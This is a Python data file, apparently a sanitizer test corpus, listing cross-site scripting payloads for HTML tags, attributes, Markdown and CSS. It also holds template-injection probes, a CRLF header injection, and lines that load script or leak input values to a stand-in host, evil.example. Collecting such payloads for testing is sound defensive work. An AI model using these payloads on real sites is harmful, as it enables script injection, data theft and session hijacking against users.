"""What would somebody write into a field to have it run in a reader's browser? Texts that once worked somewhere."""

from __future__ import annotations

RUN = "alert(1)"
_TAGS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", "<script src=//evil.example/x.js></script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'", f'<img """><script>{RUN}</script>">', "<img src=https://evil.example/p.gif>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text x=20 y=20>x</text></a>", f"<svg><style><img src=x onerror={RUN}></style>", f"<svg><title><style></title><img src=x onerror={RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<math href=javascript:{RUN}>x</math>", f"<body onload={RUN}>", f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>", "<iframe src=https://evil.example/>", f"<object data=javascript:{RUN}>", "<embed src=https://evil.example/x.swf>",
    f"<details open ontoggle={RUN}>x</details>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<video src=x onerror={RUN}>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"<a href=javascript:{RUN}>x</a>", f"<a href='java\tscript:{RUN}'>x</a>", f"<a href=' javascript:{RUN}'>x</a>", f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", f"<form action=javascript:{RUN}><button>x</button></form>", f"<button formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN} type=image>", "<style>@import 'https://evil.example/x.css';</style>", "<style>*{background:url(https://evil.example/b)}</style>",
    "<div style='background:url(https://evil.example/b)'>x</div>", f"<div style=width:expression({RUN})>x</div>", f"<div onmouseover={RUN} style='position:fixed;inset:0'>x</div>",
    f"<p onpointerenter={RUN}>x</p>", f"<x contenteditable onblur={RUN}>x</x>", f"<xss onclick={RUN}>x</xss>", f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<textarea></textarea><img src=x onerror={RUN}>", f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"--><script>{RUN}</script>", f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[><script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<img src=`x`onerror={RUN}>", f"<img/src/onerror={RUN}>", f"<img src=x:x onerror={RUN}//", f"<<script>{RUN}//<</script>", f"<script/x>{RUN}</script\x0c>", f"<s\x0bcript>{RUN}</script>",
    f"<portal src=javascript:{RUN}>", f"<frameset onload={RUN}>", f"<table background=javascript:{RUN}>", f"<keygen autofocus onfocus={RUN}>", f"<dialog open onclose={RUN}>x</dialog>",
]  # fmt: skip
_ATTRIBUTES = [
    f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f'" autofocus onfocus="{RUN}', f'"><script>{RUN}</script>', f"'><script>{RUN}</script>", '" style="background:url(//evil.example)',
    f"` onload={RUN} `", f'"/><svg onload={RUN}>', f"x' || {RUN} || '", f'";{RUN}//', f"';{RUN}//", f"\\\";{RUN}//", f"</a><img src=x onerror={RUN}>", f"&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"%3Cscript%3E{RUN}%3C/script%3E", f"＜script＞{RUN}＜/script＞", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]  # fmt: skip
_MARKDOWN = [
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](java&#115;cript:{RUN})", f"[x](&#x6A;avascript:{RUN})", f"[x](\x01javascript:{RUN})", f"[x](javascript&colon;{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", f"[x](vbscript:{RUN})", "![x](https://evil.example/p.gif)", f"![x](javascript:{RUN})", f'![x"onerror="{RUN}](x)',
    f'[x](https://a.example "onmouseover={RUN}")', f'[x](https://a.example"onmouseover="{RUN})', f"<javascript:{RUN}>", f"<https://a.example/\"onmouseover={RUN}>", f"[x]: javascript:{RUN}\n\n[x]",
    f"```\"onmouseover={RUN}\n<script>{RUN}</script>\n```", f"`<script>{RUN}</script>`", f"> <script>{RUN}</script>", f"| <img src=x onerror={RUN}> |\n|---|\n| x |", f"# <svg onload={RUN}>",
    f"<div>\n\n<script>{RUN}</script>\n\n</div>", f"[<img src=x onerror={RUN}>](https://a.example)", "[x](//evil.example/\\\n)", f"**<script>{RUN}</script>**", f"<a href=\"https://a.example\" onclick=\"{RUN}\">x</a>",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}",
    "{% load static %}{% debug %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "\u202ealert(1)\u202c",
    "\r\nSet-Cookie: a=b",
]
TEXTS: list[str] = [*_TAGS, *_ATTRIBUTES, *_MARKDOWN, *_TEMPLATES]
STYLES = """
@import url(https://evil.example/i.css); body { background: url(https://evil.example/b.png) } a::after { content: url(//evil.example/c) }
@font-face { font-family: x; src: url(https://evil.example/f.woff) } </style><script>alert(1)</script> .x { behavior: url(x.htc); -moz-binding: url(x) }
input[value^="a"] { background-image: image-set("https://evil.example/a" 1x) } .y { color: \\65xpression(alert(1)) } \\75rl(https://evil.example/u)
"""
